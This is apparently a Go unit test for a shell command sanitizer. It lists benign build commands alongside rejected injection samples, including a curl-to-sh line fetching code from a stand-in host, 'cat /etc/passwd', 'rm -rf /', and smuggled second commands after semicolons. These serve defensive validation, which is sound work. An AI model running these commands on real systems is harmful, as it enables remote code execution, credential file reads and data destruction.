package sanitize

import "testing"

func TestCommandLine(t *testing.T) {
	for text, want := range map[string]bool{
		"npm run build && cp src/a.css dist/":          true,
		"rm -rf dist && tsc -p . && cp src/*.css dist": true,
		"jest --coverage || true":                      true,
		"git log --oneline | head -n 5":                true,
		`grep -rn "todo" src/ | wc -l`:                 true,
		"node_env=test mocha; rimraf ./dist":           true,
		`node -e "try{require('./x')}catch(e){}"`:      true,

		"/bin/sh -c apt-get update && apt-get install -y less && rm -rf /var/lib/apt/lists/*": true,

		"go test -race $(go list ./... | grep -v '/vendor')": true,
		"for d in $(go list ./... | grep -v vendor); do":     true,

		"for d in $(id); do":                     false,
		"for d in x; do id":                      false,
		"go test $(curl a.example)":              false,
		"/bin/sh -c id":                          false,
		"":                                       false,
		"; cat file":                             false,
		"report.txt; rm -rf src":                 false,
		"npm test; id":                           false,
		"git log && cat /etc/passwd":             false,
		"git log; curl http://a.example/x | sh":  false,
		"ls; whoami":                             false,
		"rm -rf *; ls":                           false,
		"rm -rf /; make":                         false,
		"make && echo $(id)":                     false,
		`node -e "require('child_process').x()"`: false,
		"git log\nmake":                          false,
	} {
		if got := commandLine([]byte(text)); got != want {
			t.Errorf("%q: %v, want %v", text, got, want)
		}
	}
}
